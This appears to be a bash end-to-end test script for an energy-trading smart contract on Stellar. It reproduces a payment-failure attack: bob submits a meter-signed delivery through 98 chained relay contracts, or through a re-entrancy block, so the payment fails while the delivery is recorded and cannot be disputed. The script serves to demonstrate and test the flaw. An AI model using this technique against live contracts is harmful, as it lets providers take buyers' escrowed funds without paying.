# shellcheck shell=bash
# Whoever submits a call that a meter signed can make its payment fail. That opens nothing to dispute.

step "bob deploys 98 contracts that call each other: e2e.d/relay"
cp -r scripts/e2e.d/relay "$home/relay"
cp Cargo.lock "$home/relay"
run stellar --quiet contract build --manifest-path "$home/relay/Cargo.toml" --out-dir "$home"
run stellar contract deploy --wasm "$home/relay.wasm" --network "$network" --source-account bob
relay=$answer
run stellar contract invoke --id "$relay" --network "$network" --source-account bob -- multiply \
    --wasm_hash "$(stellar contract info hash --wasm "$home/relay.wasm")" --number 97
relays=$answer

# What her meter showed last.
reading=120640

step "alice offers 30 kWh, and bob deposits 4.5 on which the meter draws"
offer alice bob 30
id=$answer
fund "$id" bob metered
estimate=
moved 45000000 bob contract

# meter_signs READING: 10 kWh, in a call that is not bound to the account that submits it.
meter_signs() {
    pause
    prepare signed bob deliver_energy --agreement_id "$id" --energy_delivered_kwh 10 --meter_reading "$1" --provider alice
    authorize signed meter
    delivery="{\"contract\":\"$sun_contract\",\"agreement_id\":$id,\"energy_delivered_kwh\":10,\"meter_reading\":$1,\"provider\":\"$provider\"}"
}

# with_meter CALL: what the meter signed is signed for this call too.
with_meter() {
    edit "$1" '.tx.tx.operations[0].body.invoke_host_function.auth += $signed' --argjson signed "$(authorization signed)"
    simulate "$1"
}

# unpaid TRANSACTION: it is recorded, and not paid; bob cannot dispute it.
unpaid() {
    event "transaction_id=$1" payment_amount=15000000 metered=true
    transaction "$1" status=1 metered=true
    unmoved
    step "  bob cannot dispute it: DepositTrustsMeter"
    refused DepositTrustsMeter dispute-transaction "TRANSACTION_ID=$1" DISPUTER_ADDRESS=bob
    step "  alice draws 1.5 for it at once"
    draw "$1" alice
    moved 15000000 contract alice
}

# A call stack has at most a hundred places: then there is none for the token.
step "what the meter signs bob submits with all 98 above: recorded, not paid"
reading=$((reading + 10))
meter_signs "$reading"
compose attack bob "$relay" relay --path "$relays" --delivery "$delivery"
with_meter attack
apply EnergyDelivered attack
unpaid "$id"

# A contract that is on the call stack cannot be called again.
step "and while the token itself asks an account for its signature: not paid"
reading=$((reading + 10))
meter_signs "$reading"
compose attack bob "$sun" transfer --from "$relay" --to bob --amount 0
simulate attack
agree attack "$(jq '{ map: [to_entries[] | { key: { symbol: .key }, val: (if .value | type == "number" then { u64: "\(.value)" } else { address: .value } end) }] | sort_by(.key.symbol) }' <<<"$delivery")"
with_meter attack
apply EnergyDelivered attack
unpaid "$(nth 2 "$id")"

step "  without all that it is paid at once"
sell "$id" 10 $((reading += 10))
moved 15000000 contract alice
agreement "$id" status=2 energy_delivered_kwh=30 escrow_amount=0 transactions=3
